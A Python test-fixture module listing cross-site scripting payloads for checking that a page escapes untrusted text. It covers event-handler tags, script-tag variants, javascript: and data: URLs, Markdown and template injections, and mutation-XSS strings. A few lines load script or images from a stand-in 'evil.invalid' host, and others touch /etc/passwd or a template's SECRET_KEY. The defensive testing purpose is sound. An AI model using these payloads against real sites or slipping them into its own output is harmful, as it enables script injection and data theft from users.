"""Texts that would run a script, load something or break out of their place on a careless page.

Each calls `alert(1)` if it gets its way, so that a browser test may listen for dialogs. Most are built from
lists: a new tag, scheme or place is one more word there. None has a null character, which forms and the
database refuse. `PAYLOADS` is what tests use; every text is in it once.
"""

from itertools import product

CALL = "alert(1)"

# Elements that fire a handler by themselves or when they are touched.
HANDLERS = [
    "<img src=x onerror={call}>",
    "<img src=x onerror='{call}'>",
    '<img/src="x"/onerror="{call}">',
    "<img src=data:, onerror={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}//",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set onbegin={call} attributename=x>",
    "<svg><image href=x onerror={call}>",
    "<body onload={call}>",
    "<body onpageshow={call}>",
    "<iframe onload={call}></iframe>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<object data=x onerror={call}></object>",
    "<embed src=x onerror={call}>",
    "<video src=x onerror={call}></video>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}><option>x</select>",
    "<textarea autofocus onfocus={call}></textarea>",
    "<button autofocus onfocus={call}>x</button>",
    "<a href=# autofocus onfocus={call} tabindex=1>x</a>",
    "<details open ontoggle={call}>x</details>",
    "<marquee onstart={call}>x</marquee>",
    "<div onmouseover={call}>x</div>",
    "<div onpointerenter={call}>x</div>",
    "<div style='animation:x' onanimationstart={call}>x</div>",
    "<dialog open oncancel={call}>x</dialog>",
    "<form onsubmit={call}><button>x</button></form>",
    "<form><button formaction='javascript:{call}'>x</button></form>",
    "<isindex type=image src=x onerror={call}>",
    "<style onload={call}></style>",
    "<link rel=stylesheet href=x onerror={call}>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<template><img src=x onerror={call}></template>",
    "<noscript><img src=x onerror={call}></noscript>",
    "<table background='javascript:{call}'><tr><td>x</table>",
    "<x contenteditable onblur={call} autofocus>x</x>",
    "<custom-tag oncontentvisibilityautostatechange={call}>x</custom-tag>",
]

SCRIPTS = [
    "<script>{call}</script>",
    "<SCRIPT>{call}</SCRIPT>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script >{call}</script >",
    "<script/x>{call}</script>",
    "<script\n>{call}</script\n>",
    "<script src=data:text/javascript,{call}></script>",
    "<script src=//evil.invalid/x.js></script>",
    "<script type=module>{call}</script>",
    "<script>/*</script><script>*/{call}</script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<<script>{call}//<</script>",
    "<script>{call}",
    "<svg><script>{call}</script></svg>",
    "<svg><script href=data:text/javascript,{call} /></svg>",
    "<math><script>{call}</script></math>",
    "<script\x0c>{call}</script>",
    "<!--><script>{call}</script-->",
    "<![CDATA[<script>{call}</script>]]>",
    "<?xml version='1.0'?><script>{call}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href='javascript:{call}//'>",
    "<link rel=import href=data:text/html,<script>{call}</script>>",
]

# What comes before a text that was put into a place with too little care.
BREAKOUTS = [
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</option></select>",
    "</svg>",
    "]]>",
    "</a>",
    "</template>",
    "*/",
    '\\">',
    "`>",
    "\u2028",
]
BROKEN_OUT = [
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    " onmouseover={call} x=",
    " autofocus onfocus={call} x=",
    "<svg onload={call}>",
]

# Ways to write the scheme of an address that browsers read as a script or as a page.
SCHEMES = [
    "javascript:{call}",
    "JAVASCRIPT:{call}",
    "JaVaScRiPt:{call}",
    " javascript:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "\x01javascript:{call}",
    "javascript&colon;{call}",
    "&#106;avascript:{call}",
    "&#x6A;avascript&#58;{call}",
    "&#0000106&#0000097vascript:{call}",
    "javascript://x%0a{call}",
    "javascript://https://example.org/%0d{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>",
    "blob:https://example.org/{call}",
    "file:///etc/passwd#{call}",
    "feed:javascript:{call}",
    "view-source:javascript:{call}",
]
# Where such an address may stand, in HTML and in Markdown.
PLACES = [
    '<a href="{address}">x</a>',
    '<iframe src="{address}"></iframe>',
    '<img src="{address}">',
    '<form action="{address}"><button>x</button></form>',
    "[x]({address})",
    "[x](<{address}>)",
    "![x]({address})",
    "<{address}>",
    "[x][r]\n\n[r]: {address}",
]

# Markdown that turns into more than it should where a renderer trusts it.
MARKDOWN = [
    '[x](https://example.org "" onmouseover={call})',
    '[x](https://example.org/"onmouseover={call}//)',
    "[x](https://example.org 'x\" onmouseover=\"{call}')",
    '![x](x"onerror="{call})',
    '![" onerror={call} x=](x)',
    "![x](https://evil.invalid/pixel.png)",
    "![x](//evil.invalid/pixel.png)",
    "[<img src=x onerror={call}>](https://example.org)",
    "`<img src=x onerror={call}>`",
    '```" onload={call}\nx\n```',
    "```<script>{call}</script>\nx\n```",
    "# <svg onload={call}>",
    "| a |\n|---|\n| <img src=x onerror={call}> |",
    "> <script>{call}</script>",
    "* <img src=x onerror={call}>",
    "<div>\n\n*x* <script>{call}</script>\n\n</div>",
    "\\<script>{call}</script>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;img src=x onerror={call}&#62;",
    '<http://example.org/" onmouseover={call}>',
    '<a@b.c" onmouseover={call}>',
    "https://example.org/<script>{call}</script>",
    "[x]: javascript:{call}\n[x]",
    "[x](javascript\\:{call})",
    "[x](\\javascript:{call})",
    "[*x*]( javascript:{call} )",
    "a<!-- -->b<!-- <script>{call}</script> -->",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<p style='background:url(javascript:{call})'>x</p>",
    '<p style="position:fixed;inset:0;z-index:99">x</p>',
]

# What template engines, scripts and tables of other kinds would take for their own.
OTHERS = [
    "{{{{{call}}}}}",
    "{{% csrf_token %}}{{{{ settings.SECRET_KEY }}}}",
    "${{{call}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "';{call}//",
    '";{call}//',
    "\\';{call}//",
    "`-{call}-`",
    "</script><script>{call}//",
    "\u2028{call}\u2029",
    '=HYPERLINK("javascript:{call}")',
    "\ufeff<script>{call}</script>",
    "\u202e<script>{call}</script>",
    "%3Cscript%3E{call}%3C/script%3E",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "\u02bascript\u203a{call}",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "<img src=x:x onerror=\\u0061lert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<svg><a xlink:href='javascript:{call}'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={call}>#x'></svg>",
    "<math href='javascript:{call}'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={call}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={call}>",
    "<svg></p><style><a id='</style><img src=x onerror={call}>'>",
    "<div hx-get='/' hx-trigger=load hx-on::after-request='{call}'>x</div>",
    "<div data-hx-on:click='{call}'>x</div>",
    "<a id=htmx></a><a id=htmx name=config>x</a>",
    "<input name=attributes><input name=csrfmiddlewaretoken>",
]

_FLAT = [*HANDLERS, *SCRIPTS, *MARKDOWN, *OTHERS]

PAYLOADS: list[str] = list(
    dict.fromkeys(
        [
            *(text.format(call=CALL) for text in _FLAT),
            *(before + text.format(call=CALL) for before, text in product(BREAKOUTS, BROKEN_OUT)),
            *(place.format(address=scheme.format(call=CALL)) for place, scheme in product(PLACES, SCHEMES)),
        ]
    )
)
